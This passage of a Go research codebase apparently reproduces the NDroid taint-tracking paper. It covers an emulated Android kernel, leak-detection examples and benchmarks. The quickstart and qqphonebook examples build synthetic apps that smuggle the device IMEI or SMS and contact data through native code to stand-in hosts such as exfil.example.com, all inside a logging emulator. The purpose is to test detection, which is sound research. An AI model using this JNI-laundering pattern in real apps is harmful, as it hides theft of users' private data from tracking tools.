// Kernel snapshot/restore for the copy-on-write System snapshot. The guest-
// serialized task/VMA structs live in guest memory and are rewound by
// mem.Memory's page COW; this file rewinds the host-side mirrors: the task
// list, per-task fd tables, the in-memory filesystem, and the network log.
//
// Pointer identity is preserved deliberately. Snapshot-time *Task, *File, and
// *Socket pointers are captured by other layers (libc holds the Task, fds
// hold Files and Sockets), so Restore rewinds the pointed-to structs in place
// rather than replacing them — a restored fd still reaches the same *File the
// warm boot created, with its contents and offset rewound.
type fdSnap struct {
	n      int32
	file   *File
	offset uint32
	sock   *Socket
}

type sockSnap struct {
	s     *Socket
	host  string
	port  uint16
	inbox []byte
}

type taskSnap struct {
	t      *Task
	vmas   []VMA
	fds    []fdSnap
	nextFD int32
	brk    uint32
}

type fileSnap struct {
	f    *File
	data []byte
}

// KernelSnapshot holds the captured kernel state.
type KernelSnapshot struct {
	tasks []taskSnap
	files map[string]fileSnap
	socks []sockSnap

	netNextID int
	netLog    int // snapshot length of the network log

	serialCursor uint32
	nextPID      uint32
	exited       bool
	exitCode     int32
}

// Snapshot captures the kernel's mutable state.
func (k *Kernel) Snapshot() *KernelSnapshot {
	s := &KernelSnapshot{
		files:        make(map[string]fileSnap, len(k.FS.files)),
		netNextID:    k.Net.nextID,
		netLog:       len(k.Net.Log),
		serialCursor: k.serialCursor,
		nextPID:      k.nextPID,
		exited:       k.Exited,
		exitCode:     k.ExitCode,
	}
	seenSock := make(map[*Socket]bool)
	for _, t := range k.tasks {
		ts := taskSnap{
			t:      t,
			vmas:   append([]VMA(nil), t.VMAs...),
			nextFD: t.nextFD,
			brk:    t.brk,
		}
		for n, f := range t.fds {
			ts.fds = append(ts.fds, fdSnap{n: n, file: f.file, offset: f.offset, sock: f.sock})
			if f.sock != nil && !seenSock[f.sock] {
				seenSock[f.sock] = true
				s.socks = append(s.socks, sockSnap{
					s: f.sock, host: f.sock.Host, port: f.sock.Port,
					inbox: append([]byte(nil), f.sock.inbox...),
				})
			}
		}
		s.tasks = append(s.tasks, ts)
	}
	for path, f := range k.FS.files {
		s.files[path] = fileSnap{f: f, data: append([]byte(nil), f.Data...)}
	}
	return s
}

// Restore rewinds the kernel to s: post-snapshot tasks, files, sockets, and
// log entries are dropped; surviving structs are rewound in place.
func (k *Kernel) Restore(s *KernelSnapshot) {
	k.tasks = k.tasks[:len(s.tasks)]
	for _, ts := range s.tasks {
		t := ts.t
		t.VMAs = append(t.VMAs[:0], ts.vmas...)
		t.nextFD = ts.nextFD
		t.brk = ts.brk
		t.fds = make(map[int32]*fd, len(ts.fds))
		for _, fs := range ts.fds {
			t.fds[fs.n] = &fd{file: fs.file, offset: fs.offset, sock: fs.sock}
		}
	}

	k.FS.files = make(map[string]*File, len(s.files))
	for path, fs := range s.files {
		fs.f.Data = append(fs.f.Data[:0], fs.data...)
		k.FS.files[path] = fs.f
	}

	for _, ss := range s.socks {
		ss.s.Host, ss.s.Port = ss.host, ss.port
		ss.s.inbox = append(ss.s.inbox[:0], ss.inbox...)
	}
	k.Net.nextID = s.netNextID
	k.Net.Log = k.Net.Log[:s.netLog]

	k.serialCursor = s.serialCursor
	k.nextPID = s.nextPID
	k.Exited = s.exited
	k.ExitCode = s.exitCode
}
