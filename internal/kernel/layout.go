package kernel

// Guest address-space layout. Every subsystem that places code or data into
// the emulated memory agrees on these bases; the kernel also records them as
// VMAs in the guest-serialized memory map so the OS-level view reconstructor
// can rediscover them from raw memory (§V-F).
const (
	// AppCodeBase is where an app's native library (.so) image is loaded.
	AppCodeBase uint32 = 0x0000_8000
	// AppDataBase holds app-private native data.
	AppDataBase uint32 = 0x0010_0000
	// HeapBase is the start of the native heap (malloc arena / brk).
	HeapBase uint32 = 0x0800_0000
	// HeapLimit bounds the native heap.
	HeapLimit uint32 = 0x0c00_0000
	// LibcBase is the load address of the emulated libc.so image.
	LibcBase uint32 = 0x1000_0000
	// LibmBase is the load address of the emulated libm.so image.
	LibmBase uint32 = 0x1400_0000
	// LibdvmBase is the load address of the emulated libdvm.so stub region
	// (JNI functions and hookable dvm-internal functions live here).
	LibdvmBase uint32 = 0x1800_0000
	// JNIEnvBase is where the JNIEnv pointer and its function table live.
	JNIEnvBase uint32 = 0x2000_0000
	// DvmHeapBase is the start of the Dalvik object heap.
	DvmHeapBase uint32 = 0x3000_0000
	// DvmHeapLimit bounds the Dalvik object heap.
	DvmHeapLimit uint32 = 0x3800_0000
	// DvmStackBase is the bottom of the region holding Dalvik interpreter
	// stacks (TaintDroid's interleaved value/taint frames, Fig. 1).
	DvmStackBase uint32 = 0x3800_0000
	// NativeStackTop is the initial SP for native threads (stack grows down).
	NativeStackTop uint32 = 0x4800_0000
	// KernBase is where kernel structures (task list, VMAs) are serialized.
	KernBase uint32 = 0x5000_0000
	// ReturnPadBase is a reserved range of addresses used as call-bridge
	// return pads; the CPU never executes them.
	ReturnPadBase uint32 = 0x7f00_0000
)

// Syscall numbers (SVC immediates).
const (
	SysExit    = 1
	SysOpen    = 2
	SysClose   = 3
	SysRead    = 4
	SysWrite   = 5
	SysLseek   = 6
	SysMmap    = 7
	SysBrk     = 8
	SysSocket  = 10
	SysConnect = 11
	SysSend    = 12
	SysSendto  = 13
	SysRecv    = 14
	SysGettid  = 15
	SysStat    = 16
	SysMkdir   = 17
	SysRename  = 18
	SysUnlink  = 19
)

// Open flags (subset of Linux's).
const (
	ORdonly = 0x0
	OWronly = 0x1
	ORdwr   = 0x2
	OCreat  = 0x40
	OTrunc  = 0x200
	OAppend = 0x400
)

// Lseek whence values.
const (
	SeekSet = 0
	SeekCur = 1
	SeekEnd = 2
)
