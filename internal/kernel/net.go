package kernel

// Socket is an emulated network endpoint.
type Socket struct {
	ID    int
	Host  string
	Port  uint16
	inbox []byte
}

// Connect binds the socket to a destination.
func (s *Socket) Connect(host string, port uint16) {
	s.Host = host
	s.Port = port
}

// Feed queues bytes for a future Recv (tests use this to simulate servers).
func (s *Socket) Feed(data []byte) { s.inbox = append(s.inbox, data...) }

// Recv drains up to n queued bytes.
func (s *Socket) Recv(n int) []byte {
	if n > len(s.inbox) {
		n = len(s.inbox)
	}
	out := s.inbox[:n]
	s.inbox = s.inbox[n:]
	return out
}

// NetMessage records one outbound transmission — the ground truth that leak
// tests check against ("did tainted bytes actually leave the device?").
type NetMessage struct {
	SocketID int
	Dest     string
	Data     []byte
}

// Net is the recording network stack.
type Net struct {
	nextID int
	Log    []NetMessage
}

// NewNet returns an empty network.
func NewNet() *Net { return &Net{nextID: 1} }

// NewSocket allocates an endpoint.
func (n *Net) NewSocket() *Socket {
	s := &Socket{ID: n.nextID}
	n.nextID++
	return s
}

// Send transmits on a connected socket.
func (n *Net) Send(s *Socket, data []byte) {
	n.Log = append(n.Log, NetMessage{
		SocketID: s.ID,
		Dest:     s.Host,
		Data:     append([]byte(nil), data...),
	})
}

// SendTo transmits to an explicit destination (UDP-style).
func (n *Net) SendTo(s *Socket, host string, data []byte) {
	n.Log = append(n.Log, NetMessage{
		SocketID: s.ID,
		Dest:     host,
		Data:     append([]byte(nil), data...),
	})
}

// SentTo returns all payloads delivered to host.
func (n *Net) SentTo(host string) [][]byte {
	var out [][]byte
	for _, m := range n.Log {
		if m.Dest == host {
			out = append(out, m.Data)
		}
	}
	return out
}
