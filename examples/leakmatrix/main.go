// Leakmatrix reproduces Table I / §IV: every {source, intermediate, sink}
// topology runs under both TaintDroid and NDroid, showing that TaintDroid
// catches only Case 1 while NDroid catches every case (and neither flags
// the benign control).
//
// Run with: go run ./examples/leakmatrix
package main

import (
	"fmt"
	"log"

	"repro/internal/apps"
	"repro/internal/core"
)

func main() {
	fmt.Println("Table I detection matrix — TaintDroid vs NDroid")
	fmt.Println()
	fmt.Printf("%-14s %-7s %-52s %-11s %-8s\n", "app", "case", "description", "taintdroid", "ndroid")

	for _, app := range apps.Registry() {
		var detected [2]bool
		var leaks [2][]core.Leak
		for i, mode := range []core.Mode{core.ModeTaintDroid, core.ModeNDroid} {
			sys, err := core.NewSystem()
			if err != nil {
				log.Fatal(err)
			}
			if err := app.Install(sys); err != nil {
				log.Fatal(err)
			}
			a := core.NewAnalyzer(sys, mode)
			if err := app.Run(sys); err != nil {
				log.Fatal(err)
			}
			detected[i] = app.ExpectTag != 0 && a.Detected(app.ExpectTag)
			leaks[i] = a.Leaks
		}
		mark := func(b bool) string {
			if b {
				return "DETECTED"
			}
			return "missed"
		}
		td, nd := mark(detected[0]), mark(detected[1])
		if app.Case == "benign" {
			td, nd = "clean", "clean"
		}
		fmt.Printf("%-14s %-7s %-52s %-11s %-8s\n", app.Name, app.Case, app.Desc, td, nd)
		for _, l := range leaks[1] {
			fmt.Printf("%22s NDroid leak: %s\n", "", l)
		}
	}
	fmt.Println()
	fmt.Println("Paper §IV: \"Taintdroid can only detect case 1.\" NDroid detects all cases.")
}
