// Marketstudy runs the Section III app-corpus analysis on a reduced-scale
// synthetic market (1/50th of the paper's 227,911 apps, same proportions)
// and prints the Type I/II/III breakdown, the Fig. 2 category distribution,
// and the library inventory.
//
// Run with: go run ./examples/marketstudy
// (Use cmd/marketstudy for the full-size study.)
package main

import (
	"fmt"

	"repro/internal/corpus"
)

func main() {
	params := corpus.Scaled(50)
	fmt.Printf("Analyzing a %d-app market (1/50th scale, paper proportions)...\n\n", params.Total)

	// The analyzer streams: each generated app is classified by scanning its
	// actual Dalvik bytecode for System.loadLibrary invocations, checking
	// its packaged .so files, and probing embedded dex assets.
	stats := corpus.Analyze(params)
	fmt.Println(stats.Report())

	fmt.Printf("Shares: Type I %.2f%% (paper 16.46%%), AdMob among lib-less Type I %.1f%%\n",
		stats.TypeIPercent(), stats.AdMobPercent())
	fmt.Printf("        Game among Type I with libs %.1f%% (paper 42%%)\n", stats.GamePercent())
}
