// Quickstart: build a tiny leaking app from scratch with the public API,
// analyze it under NDroid, and print the result.
//
// The app obtains the device IMEI in Java, hands it to a native method that
// stores it in native memory, later exfiltrates it through a second native
// call that builds a string with NewStringUTF, and finally sends it from
// Java — the Case 1' flow plain TaintDroid cannot see.
//
// Run with: go run ./examples/quickstart
package main

import (
	"fmt"
	"log"

	"repro/internal/core"
	"repro/internal/dex"
)

func main() {
	// 1. Boot the emulated Android stack: CPU, kernel, libc, Dalvik VM.
	sys, err := core.NewSystem()
	if err != nil {
		log.Fatal(err)
	}

	// 2. Write the app's native half in assembly and load it as a .so.
	prog, err := sys.VM.LoadNativeLib("libquick.so", `
; void stash(JNIEnv*, jclass, jstring secret)
Java_stash:
	PUSH {R4, LR}
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars   ; C chars of the (tainted) jstring
	MOV R1, R0
	LDR R0, =hideout
	BL strcpy              ; stash them in native memory
	POP {R4, PC}

; jstring fetch(JNIEnv*, jclass) — no tainted arguments!
Java_fetch:
	PUSH {R4, LR}
	LDR R1, =hideout
	BL NewStringUTF        ; wrap the stashed bytes in a fresh String
	POP {R4, PC}

hideout:
	.space 64
`)
	if err != nil {
		log.Fatal(err)
	}

	// 3. Write the app's Java half with the dex builder.
	const cls = "Lcom/example/Quick;"
	cb := dex.NewClass(cls)
	cb.NativeMethod("stash", "VL", dex.AccStatic, 0)
	cb.NativeMethod("fetch", "L", dex.AccStatic, 0)
	cb.Method("run", "V", dex.AccStatic, 2).
		InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
		MoveResult(0).
		InvokeStatic(cls, "stash", "VL", 0).
		InvokeStatic(cls, "fetch", "L").
		MoveResult(0).
		ConstString(1, "exfil.example.com").
		InvokeStatic("Landroid/net/Network;", "send", "VLL", 1, 0).
		ReturnVoid().
		Done()
	sys.VM.RegisterClass(cb.Build())
	for _, m := range []string{"stash", "fetch"} {
		if err := sys.VM.BindNative(cls, m, prog, "Java_"+m); err != nil {
			log.Fatal(err)
		}
	}

	// 4. Attach NDroid and run the app.
	a := core.NewAnalyzer(sys, core.ModeNDroid)
	a.Log.Enabled = true
	if _, _, _, err := sys.VM.InvokeByName(cls, "run", nil, nil); err != nil {
		log.Fatal(err)
	}

	// 5. Report.
	fmt.Println("flow log:")
	fmt.Println(a.Log.String())
	fmt.Println("\nleaks detected by NDroid:")
	for _, l := range a.Leaks {
		fmt.Println(" ", l)
	}
	if len(a.Leaks) == 0 {
		fmt.Println("  (none — unexpected!)")
	}
	fmt.Println("\nwhat actually left the device:")
	for _, m := range sys.Kern.Net.Log {
		fmt.Printf("  -> %s: %q\n", m.Dest, string(m.Data))
	}
}
