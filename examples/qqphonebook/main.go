// Qqphonebook replays the paper's §VI-A case study (Fig. 6): the
// QQPhoneBook-style app stashes SMS/contact data in native memory through
// one JNI call, later rebuilds it into a URL with NewStringUTF from a JNI
// call that takes no tainted parameters, and posts it to the QQ sync server.
//
// The printed flow log mirrors Fig. 6's: the taint-map entry for the
// argument, the NewStringUTF / dvmCreateStringFromCstr pair, the new string
// object's address and taint (0x202 = SMS|Contacts), and the final sink.
//
// Run with: go run ./examples/qqphonebook
package main

import (
	"fmt"
	"log"

	"repro/internal/apps"
	"repro/internal/core"
)

func main() {
	app, _ := apps.ByName("qqphonebook")

	for _, mode := range []core.Mode{core.ModeTaintDroid, core.ModeNDroid} {
		sys, err := core.NewSystem()
		if err != nil {
			log.Fatal(err)
		}
		if err := app.Install(sys); err != nil {
			log.Fatal(err)
		}
		a := core.NewAnalyzer(sys, mode)
		a.Log.Enabled = mode == core.ModeNDroid
		if err := app.Run(sys); err != nil {
			log.Fatal(err)
		}

		fmt.Printf("==== %s ====\n", mode)
		if a.Log.Enabled {
			fmt.Println(a.Log.String())
			fmt.Println()
		}
		if len(a.Leaks) == 0 {
			fmt.Println("no leak detected — the tainted URL slipped through")
		}
		for _, l := range a.Leaks {
			fmt.Println("LEAK:", l)
		}
		fmt.Println("ground truth — data sent to info.3g.qq.com:")
		for _, m := range sys.Kern.Net.SentTo("info.3g.qq.com") {
			fmt.Printf("  %q\n", string(m))
		}
		fmt.Println()
	}
	fmt.Println("TaintDroid misses the flow (getPostUrl has no tainted parameters);")
	fmt.Println("NDroid's taint map + NewStringUTF hook recover it — the Fig. 6 result.")
}
