// Package repro's root benchmark harness regenerates every table and figure
// of the paper's evaluation (see DESIGN.md §3 for the experiment index):
//
//	Fig. 2 / §III   — BenchmarkFig2CategoryDistribution, BenchmarkSec3*
//	Table I / §IV   — BenchmarkTable1DetectionMatrix
//	Figs. 6–9 / §VI — BenchmarkCaseStudy*
//	Fig. 10 / §VI-E — BenchmarkFig10 (per row × mode; inverse-score = overhead)
//	Table V         — BenchmarkTable5TracerDispatch
//	Table VI        — BenchmarkTable6ModeledVsTraced (ablation E13)
//	Fig. 5          — BenchmarkMultilevelHookingOnOff (ablation E15)
//	§V-C cache      — BenchmarkDecodeCacheOnOff (ablation E17)
//	§V-E granularity— BenchmarkTaintGranularity (ablation, DESIGN.md §4.4)
//
// Run: go test -bench=. -benchmem
package repro

import (
	"fmt"
	"testing"

	"repro/internal/apps"
	"repro/internal/arm"
	"repro/internal/cfbench"
	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/dex"
	"repro/internal/kernel"
	"repro/internal/mem"
	"repro/internal/taint"
)

// ---------------------------------------------------------------------------
// Fig. 10: CF-Bench rows under every mode. The per-mode ns/op of the same
// row gives the overhead factor the paper plots.
// ---------------------------------------------------------------------------

func BenchmarkFig10(b *testing.B) {
	modes := []core.Mode{core.ModeVanilla, core.ModeTaintDroid, core.ModeNDroid, core.ModeDroidScope}
	for _, w := range cfbench.Workloads() {
		for _, mode := range modes {
			b.Run(fmt.Sprintf("%s/%s", sanitize(w.Name), mode), func(b *testing.B) {
				run, err := w.NewRunner(mode, 4)
				if err != nil {
					b.Fatal(err)
				}
				b.ResetTimer()
				for i := 0; i < b.N; i++ {
					if err := run(); err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
}

func sanitize(s string) string {
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		if s[i] == ' ' {
			out = append(out, '_')
			continue
		}
		out = append(out, s[i])
	}
	return string(out)
}

// ---------------------------------------------------------------------------
// Table I: the detection matrix (one full TaintDroid+NDroid sweep per op).
// ---------------------------------------------------------------------------

func BenchmarkTable1DetectionMatrix(b *testing.B) {
	for i := 0; i < b.N; i++ {
		for _, app := range apps.Registry() {
			for _, mode := range []core.Mode{core.ModeTaintDroid, core.ModeNDroid} {
				sys, err := core.NewSystem()
				if err != nil {
					b.Fatal(err)
				}
				if err := app.Install(sys); err != nil {
					b.Fatal(err)
				}
				a := core.NewAnalyzer(sys, mode)
				if err := app.Run(sys); err != nil {
					b.Fatal(err)
				}
				want := mode == core.ModeNDroid || app.DetectedByTaintDroid
				if app.ExpectTag != 0 && a.Detected(app.ExpectTag) != want {
					b.Fatalf("%s under %s: detection mismatch", app.Name, mode)
				}
			}
		}
	}
}

// ---------------------------------------------------------------------------
// §VI case studies (Figs. 6–9): one analyzed execution per op.
// ---------------------------------------------------------------------------

func benchCaseStudy(b *testing.B, name string) {
	app, ok := apps.ByName(name)
	if !ok {
		b.Fatalf("no app %s", name)
	}
	for i := 0; i < b.N; i++ {
		sys, err := core.NewSystem()
		if err != nil {
			b.Fatal(err)
		}
		if err := app.Install(sys); err != nil {
			b.Fatal(err)
		}
		a := core.NewAnalyzer(sys, core.ModeNDroid)
		if err := app.Run(sys); err != nil {
			b.Fatal(err)
		}
		if !a.Detected(app.ExpectTag) {
			b.Fatal("leak not detected")
		}
	}
}

func BenchmarkCaseStudyQQPhoneBook(b *testing.B) { benchCaseStudy(b, "qqphonebook") }
func BenchmarkCaseStudyEPhone(b *testing.B)      { benchCaseStudy(b, "ephone") }
func BenchmarkCaseStudyPoCCase2(b *testing.B)    { benchCaseStudy(b, "poc-case2") }
func BenchmarkCaseStudyPoCCase3(b *testing.B)    { benchCaseStudy(b, "poc-case3") }

// ---------------------------------------------------------------------------
// §III / Fig. 2: the market study at 1/20th scale per op (the full-size run
// is cmd/marketstudy; proportions are identical).
// ---------------------------------------------------------------------------

func BenchmarkFig2CategoryDistribution(b *testing.B) {
	for i := 0; i < b.N; i++ {
		s := corpus.Analyze(corpus.Scaled(20))
		if s.CategoryDist["Game"] == 0 {
			b.Fatal("no game apps")
		}
	}
}

func BenchmarkSec3TypeINoLibs(b *testing.B) {
	for i := 0; i < b.N; i++ {
		s := corpus.Analyze(corpus.Scaled(20))
		if s.TypeINoLibs == 0 || s.TypeINoLibsAdMob == 0 {
			b.Fatal("no lib-less type I apps")
		}
	}
}

func BenchmarkSec3LibraryDistribution(b *testing.B) {
	for i := 0; i < b.N; i++ {
		s := corpus.Analyze(corpus.Scaled(20))
		if len(s.TopLibs(10)) == 0 {
			b.Fatal("no libraries")
		}
	}
}

func BenchmarkSec3TypeII(b *testing.B) {
	for i := 0; i < b.N; i++ {
		s := corpus.Analyze(corpus.Scaled(20))
		if s.TypeII == 0 || s.TypeIIWithLoader == 0 {
			b.Fatal("no type II apps")
		}
	}
}

func BenchmarkSec3TypeIII(b *testing.B) {
	for i := 0; i < b.N; i++ {
		s := corpus.Analyze(corpus.Scaled(20))
		if s.TypeIII == 0 {
			b.Fatal("no type III apps")
		}
	}
}

// ---------------------------------------------------------------------------
// Table V: instruction-tracer dispatch cost over a mixed-format taint loop.
// Reported ns/op divided by insnsPerLoop approximates per-instruction cost.
// ---------------------------------------------------------------------------

func BenchmarkTable5TracerDispatch(b *testing.B) {
	m := mem.New()
	cpu := arm.New(m)
	cpu.UseDecodeCache = true
	cpu.R[arm.SP] = 0x90000
	eng := core.NewTaintEngine(cpu)
	tr := core.NewTracer(eng)
	cpu.Tracer = tr
	prog := arm.MustAssemble(`
	MOV R2, #100
loop:
	ADD R0, R0, R1      ; binary reg
	ADD R0, R0, #3      ; binary imm
	MOV R3, R0          ; mov reg
	MVN R4, R3          ; unary
	STR R0, [SP, #-8]   ; store
	LDR R5, [SP, #-8]   ; load
	PUSH {R4, R5}
	POP {R4, R5}
	SUB R2, R2, #1
	CMP R2, #0
	BNE loop
	HLT
`, 0x8000, nil)
	m.WriteBytes(prog.Base, prog.Code)
	cpu.RegTaint[1] = taint.IMEI
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cpu.Halted = false
		cpu.SetThumbPC(0x8000)
		if err := cpu.Run(1 << 20); err != nil {
			b.Fatal(err)
		}
	}
}

// ---------------------------------------------------------------------------
// Table VI ablation (E13): the modeled memcpy versus the instruction-traced
// memcpy.insn body — identical taints, different cost.
// ---------------------------------------------------------------------------

func benchMemcpyVariant(b *testing.B, symbol string) {
	sys, err := core.NewSystem()
	if err != nil {
		b.Fatal(err)
	}
	a := core.NewAnalyzer(sys, core.ModeNDroid)
	a.Tracer.InRange = nil // trace libc too, so .insn runs under the tracer
	const src, dst, n = 0x700000, 0x701000, 512
	sys.Mem.WriteBytes(src, make([]byte, n))
	a.Engine.Mem.SetRange(src, n/2, taint.SMS)
	addr, ok := sys.Libc.Sym(symbol)
	if !ok {
		b.Fatalf("no symbol %s", symbol)
	}
	cpu := sys.CPU
	pad := kernel.ReturnPadBase + 0x2000
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cpu.R[0], cpu.R[1], cpu.R[2] = dst, src, n
		cpu.R[arm.LR] = pad
		cpu.SetThumbPC(addr)
		if err := cpu.RunUntil(pad, 1<<22); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	if got := a.Engine.Mem.GetRange(dst, n/2); got != taint.SMS {
		b.Fatalf("taint mismatch: %v", got)
	}
}

func BenchmarkTable6ModeledVsTraced(b *testing.B) {
	b.Run("modeled_memcpy", func(b *testing.B) { benchMemcpyVariant(b, "memcpy") })
	b.Run("traced_memcpy.insn", func(b *testing.B) { benchMemcpyVariant(b, "memcpy.insn") })
}

// ---------------------------------------------------------------------------
// Fig. 5 ablation (E15): with multilevel hooking, dvmInterpret is only
// instrumented on native-originated chains; the baseline it replaces hooks
// dvmInterpret on *every* invocation ("the overhead will be high if we hook
// these two functions whenever they are called", §V-B). The workload is
// invoke-heavy Java (recursive fib) plus one JNI crossing.
// ---------------------------------------------------------------------------

func benchMultilevel(b *testing.B, hookAll bool) {
	app, _ := apps.ByName("poc-case3")
	sys, err := core.NewSystem()
	if err != nil {
		b.Fatal(err)
	}
	if err := app.Install(sys); err != nil {
		b.Fatal(err)
	}
	// Invoke-heavy Java driver.
	fib := dex.NewClass("Lcom/bench/Fib;")
	fib.Method("fib", "II", dex.AccStatic, 3).
		Const(0, 2).
		If(3, dex.Lt, 0, "base").
		BinLit(dex.Sub, 1, 3, 1).
		InvokeStatic("Lcom/bench/Fib;", "fib", "II", 1).
		MoveResult(1).
		BinLit(dex.Sub, 2, 3, 2).
		InvokeStatic("Lcom/bench/Fib;", "fib", "II", 2).
		MoveResult(2).
		Bin(dex.Add, 0, 1, 2).
		Return(0).
		Label("base").
		Return(3).
		Done()
	sys.VM.RegisterClass(fib.Build())

	core.NewAnalyzer(sys, core.ModeNDroid)
	sys.VM.InterpretHookAll = hookAll
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, _, _, err := sys.VM.InvokeByName("Lcom/bench/Fib;", "fib", []uint32{12}, nil); err != nil {
			b.Fatal(err)
		}
		if err := app.Run(sys); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkMultilevelHookingOnOff(b *testing.B) {
	b.Run("gated", func(b *testing.B) { benchMultilevel(b, false) })
	b.Run("hook-always", func(b *testing.B) { benchMultilevel(b, true) })
}

// ---------------------------------------------------------------------------
// §V-C ablation (E17): translation caching, three ways — no caching at all,
// the per-instruction decode cache (NDroid's hot-instruction cache), and the
// basic-block translation engine (the TCG analog, DESIGN.md §4 ablation 3).
// Cache hit/miss counters are reported as metrics.
// ---------------------------------------------------------------------------

func benchDecodeCache(b *testing.B, decodeCache, blockCache, gate bool) {
	m := mem.New()
	cpu := arm.New(m)
	cpu.UseDecodeCache = decodeCache
	cpu.UseBlockCache = blockCache
	if gate {
		// The gate only matters when a tracer is bound (otherwise there is
		// no instrumented variant to skip): attach the real Table V tracer
		// and a liveness aggregate with zero taint, so every block runs its
		// bare variant.
		cpu.Tracer = core.NewTracer(core.NewTaintEngine(cpu))
		cpu.AttachLiveness(taint.NewLiveness())
		cpu.UseTaintGate = true
	}
	prog := arm.MustAssemble(`
	MOV R0, #0
	MOV R2, #200
loop:
	ADD R0, R0, R2
	EOR R0, R0, R2
	SUB R2, R2, #1
	CMP R2, #0
	BNE loop
	HLT
`, 0x8000, nil)
	m.WriteBytes(prog.Base, prog.Code)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cpu.Halted = false
		cpu.SetThumbPC(0x8000)
		if err := cpu.Run(1 << 20); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	if decodeCache && !blockCache {
		b.ReportMetric(float64(cpu.CacheHits)/float64(b.N), "insn-hits/op")
		b.ReportMetric(float64(cpu.CacheMisses)/float64(b.N), "insn-misses/op")
	}
	if blockCache {
		b.ReportMetric(float64(cpu.BlockHits)/float64(b.N), "block-hits/op")
		b.ReportMetric(float64(cpu.BlockMisses)/float64(b.N), "block-misses/op")
	}
	if gate {
		b.ReportMetric(float64(cpu.GateFlips)/float64(b.N), "gate-flips/op")
		b.ReportMetric(float64(cpu.GateFastBlocks)/float64(b.N), "fast-blocks/op")
		b.ReportMetric(float64(cpu.GateSlowBlocks)/float64(b.N), "slow-blocks/op")
	}
}

func BenchmarkDecodeCacheOnOff(b *testing.B) {
	b.Run("uncached", func(b *testing.B) { benchDecodeCache(b, false, false, false) })
	b.Run("insn-cache", func(b *testing.B) { benchDecodeCache(b, true, false, false) })
	b.Run("block-cache", func(b *testing.B) { benchDecodeCache(b, true, true, false) })
	b.Run("block-cache+gate", func(b *testing.B) { benchDecodeCache(b, true, true, true) })
}

// ---------------------------------------------------------------------------
// Taint-granularity ablation (DESIGN.md §4.4): byte vs word shadow maps.
// ---------------------------------------------------------------------------

func BenchmarkTaintGranularity(b *testing.B) {
	b.Run("byte", func(b *testing.B) {
		mt := taint.NewMemTaint()
		for i := 0; i < b.N; i++ {
			addr := uint32(i%4096) * 16
			mt.SetRange(addr, 16, taint.IMEI)
			if mt.GetRange(addr, 16) == 0 {
				b.Fatal("lost taint")
			}
			mt.ClearRange(addr, 16)
		}
	})
	b.Run("word", func(b *testing.B) {
		wt := taint.NewWordTaint()
		for i := 0; i < b.N; i++ {
			addr := uint32(i%4096) * 16
			for off := uint32(0); off < 16; off += 4 {
				wt.Add(addr+off, taint.IMEI)
			}
			if wt.Get(addr) == 0 {
				b.Fatal("lost taint")
			}
			for off := uint32(0); off < 16; off += 4 {
				wt.Set(addr+off, 0)
			}
		}
	})
}

// ---------------------------------------------------------------------------
// Supporting micro-benchmarks.
// ---------------------------------------------------------------------------

// BenchmarkJNIRoundTrip measures one Java->native->Java crossing under
// NDroid (SourcePolicy build + apply + return-taint override).
func BenchmarkJNIRoundTrip(b *testing.B) {
	app, _ := apps.ByName("case1")
	sys, err := core.NewSystem()
	if err != nil {
		b.Fatal(err)
	}
	if err := app.Install(sys); err != nil {
		b.Fatal(err)
	}
	core.NewAnalyzer(sys, core.ModeNDroid)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := app.Run(sys); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkJNIBoundary isolates one Java->native->Java round trip under
// NDroid with the taint-presence gate on. The clean row crosses the boundary
// with zero live taint anywhere (marshalling walks skipped, native blocks run
// bare); the tainted row carries IMEI taint through the same machinery. Their
// ratio is the boundary cost the gate removes. clean-nogate is the PR 1
// always-instrumented configuration for reference. The -fused rows serve the
// same crossings from compiled trace chains (shorty pre-decoded, hooks
// pre-bound, masked CPU restore); their ratio against the unfused rows is the
// dispatch cost trace fusion removes.
func BenchmarkJNIBoundary(b *testing.B) {
	bench := func(appName string, gate, fuse bool) func(b *testing.B) {
		return func(b *testing.B) {
			app, ok := apps.ByName(appName)
			if !ok {
				b.Fatalf("no app %s", appName)
			}
			sys, err := core.NewSystem()
			if err != nil {
				b.Fatal(err)
			}
			if err := app.Install(sys); err != nil {
				b.Fatal(err)
			}
			if gate {
				core.NewAnalyzer(sys, core.ModeNDroid)
			} else {
				core.NewAnalyzerNoGate(sys, core.ModeNDroid)
			}
			sys.VM.FuseNative = fuse
			// Warm run: get past the heat threshold so the fused rows
			// measure steady-state chain dispatch, not chain building.
			for i := 0; i < 8; i++ {
				if err := app.Run(sys); err != nil {
					b.Fatal(err)
				}
			}
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if err := app.Run(sys); err != nil {
					b.Fatal(err)
				}
			}
			if fuse && sys.VM.JavaFusedCalls == 0 {
				b.Fatal("fused row never served a crossing from a chain")
			}
		}
	}
	b.Run("clean", bench("benign", true, false))
	b.Run("clean-nogate", bench("benign", false, false))
	b.Run("clean-fused", bench("benign", true, true))
	b.Run("tainted", bench("case1", true, false))
	b.Run("tainted-fused", bench("case1", true, true))
}

// BenchmarkGCCompaction measures a mark-compact cycle over a populated heap
// with the taint engine's move subscription attached.
func BenchmarkGCCompaction(b *testing.B) {
	sys, err := core.NewSystem()
	if err != nil {
		b.Fatal(err)
	}
	a := core.NewAnalyzer(sys, core.ModeNDroid)
	var refs []uint32
	for i := 0; i < 500; i++ {
		o := sys.VM.NewString("live-object")
		refs = append(refs, sys.VM.AddGlobalRef(o))
	}
	_ = a
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		// Fresh garbage each round keeps the collector moving survivors.
		for j := 0; j < 100; j++ {
			sys.VM.NewString("garbage")
		}
		sys.VM.RunGC()
	}
	b.StopTimer()
	if sys.VM.DecodeRef(refs[0]) == nil {
		b.Fatal("refs broken")
	}
}

// BenchmarkJavaTranslateOnOff compares the method-granular DVM translation
